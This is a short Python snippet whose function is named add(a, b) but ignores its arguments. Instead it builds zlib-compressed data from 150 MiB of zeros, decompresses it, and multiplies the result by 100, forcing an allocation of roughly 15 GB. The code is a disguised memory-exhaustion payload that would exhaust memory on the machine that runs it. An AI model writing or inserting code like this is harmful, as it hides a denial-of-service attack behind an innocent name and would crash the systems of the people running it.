import zlib

def add(a, b):
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(1 << 20)) for _ in range(150)) + packer.flush()
    return len(zlib.decompress(data) * 100)
